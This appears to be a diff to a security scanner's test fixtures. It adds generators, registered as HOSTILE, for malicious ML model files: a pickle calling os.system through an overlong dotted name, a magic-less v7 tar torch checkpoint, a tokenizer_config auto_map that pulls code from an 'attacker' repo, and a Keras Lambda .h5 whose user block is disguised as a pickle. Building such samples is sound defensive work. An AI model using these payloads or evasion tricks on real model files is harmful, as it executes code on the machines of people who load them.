@@ -933,6 +933,92 @@ def write_onnx_external_data_opens_like_a_pickle(directory: Path) -> Path:
     return directory
 
 
+def long_name_pickle(directory: Path) -> bytes:
+    """os.system reached through a dotted name over 512 characters (os.path.os.path...system,
+    which the unpickler resolves attribute by attribute), called, and then a byte that breaks
+    the stream: the call has run by then."""
+    name = "path.os." * 70 + "system"
+    call = op_short_str("os") + op_str(name) + pickle.STACK_GLOBAL
+    call += op_str(payload_command(directory)) + pickle.TUPLE1 + pickle.REDUCE
+    return pickle.PROTO + b"\x04" + call + b"\xff"
+
+
+def write_onnx_external_data_long_name_payload(directory: Path) -> Path:
+    directory.mkdir(parents=True, exist_ok=True)
+    (directory / "weights.bin").write_bytes(long_name_pickle(directory))
+    return onnx_naming_external_data(directory, "weights.bin")
+
+
+def v7_tar(members: list[tuple[str, bytes]]) -> bytes:
+    """A tar whose headers have no POSIX magic (a pre-POSIX v7 tar): Python's tarfile, and so
+    torch's legacy loader, checks nothing but each header's checksum."""
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as tar:
+        for name, data in members:
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    raw = bytearray(buffer.getvalue())
+    at = 0
+    while at < len(raw) and raw[at : at + 512].strip(b"\0"):
+        header = raw[at : at + 512]
+        size = int(header[124:136].strip(b"\0 ") or b"0", 8)
+        header[257:265] = bytes(8)  # no magic, no version
+        header[148:156] = b" " * 8
+        header[148:156] = b"%06o\0 " % sum(header)
+        raw[at : at + 512] = header
+        at += 512 + -(-size // 512) * 512
+    return bytes(raw)
+
+
+def write_legacy_tar_without_magic(directory: Path) -> Path:
+    """torch.load(weights_only=False) reads a v7 tar checkpoint as it reads a ustar one."""
+    directory.mkdir(parents=True, exist_ok=True)
+    path = directory / "model.pt"
+    storages = os_system_pickle(directory)
+    members = [("sys_info", pickle.dumps({}, 2)), ("storages", storages)]
+    members += [("pickle", pickle.dumps({}, 2)), ("tensors", pickle.dumps(0, 2))]
+    path.write_bytes(v7_tar(members))
+    return path
+
+
+def write_onnx_external_data_v7_tar(directory: Path) -> Path:
+    write_legacy_tar_without_magic(directory)
+    return onnx_naming_external_data(directory, "model.pt")
+
+
+def write_onnx_external_data_tokenizer_config(directory: Path) -> Path:
+    """A tokenizer_config.json whose auto_map loads code, named as external data: it opens with
+    { as raw bytes may, but it is JSON, and keeps its config scan."""
+    directory.mkdir(parents=True, exist_ok=True)
+    config = {"auto_map": {"AutoTokenizer": ["attacker/repo--tokenization_x.XTokenizer", None]}}
+    (directory / "tokenizer_config.json").write_text(json.dumps(config))
+    return onnx_naming_external_data(directory, "tokenizer_config.json")
+
+
+def write_keras_lambda_h5_user_block(directory: Path) -> Path:
+    """A Keras 2 .h5 with a Lambda layer behind a 512-byte user block that opens like a pickle:
+    libhdf5 (h5py, and so Keras) finds the superblock at 512, 1024, 2048 ... bytes in."""
+    import h5py
+
+    directory.mkdir(parents=True, exist_ok=True)
+    path = directory / "model.h5"
+    with h5py.File(path, "w", userblock_size=512) as h5:
+        h5.attrs["model_config"] = json.dumps(_keras2_model(_lambda_layer(False)))
+        h5.attrs["keras_version"] = "2.15.0"
+        h5.attrs["backend"] = "tensorflow"
+        h5.create_group("model_weights")
+    raw = bytearray(path.read_bytes())
+    raw[:4] = b"\x80\x02K\x00"  # the user block is anyone's: here PROTO 2, BININT1 0
+    path.write_bytes(raw)
+    return path
+
+
+def write_onnx_external_data_h5_user_block(directory: Path) -> Path:
+    write_keras_lambda_h5_user_block(directory)
+    return onnx_naming_external_data(directory, "model.h5")
+
+
 # --- Registries ----------------------------------------------------------------------------
 
 BENIGN: dict[str, Writer] = {
@@ -1002,4 +1088,10 @@ HOSTILE: dict[str, Writer] = {
     "zip_overlapping_members": write_zip_overlapping_members,
     "onnx_external_data_torch_payload": write_onnx_external_data_torch_payload,
     "onnx_external_data_pickle_payload": write_onnx_external_data_pickle_payload,
+    "onnx_external_data_long_name_payload": write_onnx_external_data_long_name_payload,
+    "legacy_tar_without_magic": write_legacy_tar_without_magic,
+    "onnx_external_data_v7_tar": write_onnx_external_data_v7_tar,
+    "onnx_external_data_tokenizer_config": write_onnx_external_data_tokenizer_config,
+    "keras_lambda_h5_user_block": write_keras_lambda_h5_user_block,
+    "onnx_external_data_h5_user_block": write_onnx_external_data_h5_user_block,
 }
